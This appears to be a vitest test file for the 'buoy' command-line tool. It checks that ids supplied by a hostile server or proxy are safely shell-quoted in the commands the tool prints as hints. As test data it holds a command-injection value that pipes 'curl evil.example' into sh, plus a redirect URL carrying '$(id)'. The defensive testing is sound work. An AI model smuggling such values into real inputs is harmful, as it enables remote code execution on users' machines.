// Ids that a hostile Buoy or proxy chooses, in the commands that a person copies from notes and hints into a shell.
import { afterAll, beforeAll, expect, test } from 'vitest';
import { at, read, server } from './support/scripted-buoy.ts';
import { createTestCli, type TestCli } from './support/test-cli.ts';

let cli: TestCli;
beforeAll(() => {
  cli = createTestCli({ url: 'http://buoy.test', token: 'a-token' });
});
afterAll(() => cli.close());

const evil = "x'; curl evil.example | sh #";
const quoted = `'x'\\''; curl evil.example | sh #'`;

const task = {
  ...{ id: evil, type: 'openclaw.restart', status: 'running', serverId: 'srv_1', createdBy: '42', steps: [] },
  ...{ createdAt: at, startedAt: at, finishedAt: null, progress: 1, result: null, error: null },
};
const preview = { changes: [], valid: true, issues: [], hash: 'h' };
const stale = { error: 'It changed.', code: 'stale_version', requestId: 'req_1' };

/** Answers by the end of the path: the contract would refuse such ids, a hostile Buoy does not. */
async function printed(words: readonly string[], ends: Record<string, Response | object>): Promise<string> {
  const { out, err } = await cli.buoy(words, {
    now: () => Date.parse(at),
    async fetch(input, init) {
      const { pathname } = new URL(String(input));
      const method = init?.method ?? 'GET';
      const end = Object.keys(ends).find((one) => `${method} ${pathname}`.endsWith(one));
      const answer =
        end === undefined && `${method} ${pathname}` === 'GET /api/servers'
          ? { servers: [{ ...server, id: evil }], nextCursor: null }
          : ends[end ?? ''];
      if (answer === undefined) throw new Error(`Nothing is scripted for ${method} ${pathname}.`);
      return answer instanceof Response ? answer : Response.json(answer);
    },
  });
  return out + err;
}

test.each<[string, string[], Record<string, object>, string[]]>([
  [
    'a task that is in the way',
    ['servers', 'list'],
    {
      'GET /api/servers': Response.json(
        { error: 'Busy.', code: 'task_running', requestId: 'r', taskId: evil },
        { status: 409 },
      ),
    },
    ['buoy tasks watch ID;', 'buoy tasks cancel ID\n'],
  ],
  [
    'a task that was started',
    ['openclaw', 'restart', 'web', '--no-wait'],
    { '/openclaw/restart': { task } },
    ['buoy tasks watch ID\n'],
  ],
  [
    'a server without the agent',
    ['openclaw', 'agents', 'show', 'web', 'nobody'],
    { '/agents': { agents: [], ...read } },
    ['buoy openclaw agents list ID\n'],
  ],
  [
    'a server without the session',
    ['openclaw', 'sessions', 'unarchive', 'web', 'nobody'],
    { '/sessions': { sessions: [], nextCursor: null, ...read } },
    ['buoy openclaw sessions list ID --archived\n'],
  ],
  [
    'a page of messages',
    ['openclaw', 'sessions', 'messages', 'web', 'agent:main:desk'],
    { '/messages': { messages: [], nextCursor: evil, ...read } },
    ['--before ID\n'],
  ],
  [
    'a server without the skill',
    ['openclaw', 'skills', 'enable', 'web', 'nobody'],
    { '/skills': { skills: [], ...read } },
    ['buoy openclaw skills list ID --all\n'],
  ],
  [
    'a server without the cron job',
    ['openclaw', 'cron', 'run', 'web', 'nobody'],
    { '/cron': { jobs: [], ...read } },
    ['buoy openclaw cron list ID\n'],
  ],
  [
    'a server without the member',
    ['access', 'revoke', 'web', 'nobody', '--yes'],
    { '/access': { members: [] } },
    ['buoy access list ID\n'],
  ],
  [
    'a server without the invite',
    ['access', 'invites', 'revoke', 'web', 'nobody'],
    { '/invites': { invites: [] } },
    ['buoy access invites list ID\n'],
  ],
  [
    'a server that was added',
    ['servers', 'add', 'deploy@web.example', '--key', import.meta.filename, '--host-key', 'SHA256:a'],
    { 'POST /api/servers': { server: { ...server, id: evil } } },
    ['buoy servers test ID\n'],
  ],
  [
    'a config that cannot be read',
    ['openclaw', 'config', 'get', 'web'],
    { '/config': { config: null, problem: null, issues: [], warnings: [], applied: null, ...read } },
    ['buoy openclaw config history ID\n'],
  ],
  [
    'a config without the path',
    ['openclaw', 'config', 'get', 'web', 'a.b'],
    { '/config': { config: {}, problem: null, issues: [], warnings: [], applied: null, ...read } },
    ['buoy openclaw config schema ID a.b\n'],
  ],
  [
    'a change of the config that is not valid',
    ['openclaw', 'config', 'set', 'web', 'a', '1', '--yes'],
    { '/preview': { ...preview, valid: false } },
    ['buoy openclaw config schema ID PATH\n'],
  ],
  [
    'a config that changed meanwhile',
    ['openclaw', 'config', 'set', 'web', 'a', '1', '--yes'],
    { '/preview': preview, '/config': Response.json(stale, { status: 409 }) },
    ['buoy openclaw config history ID. '],
  ],
  [
    'a proxy that redirects',
    ['servers', 'list'],
    {
      'GET /api/servers': new Response(null, { status: 302, headers: { location: 'http://a;$(id)/' } }),
    },
    ["buoy login 'http://a;$(id)'\n"],
  ],
])('the id of %s is quoted', async (_what, words, ends, commands) => {
  const text = await printed(words, ends);
  for (const command of commands) expect(text).toContain(command.replace('ID', () => quoted));
});
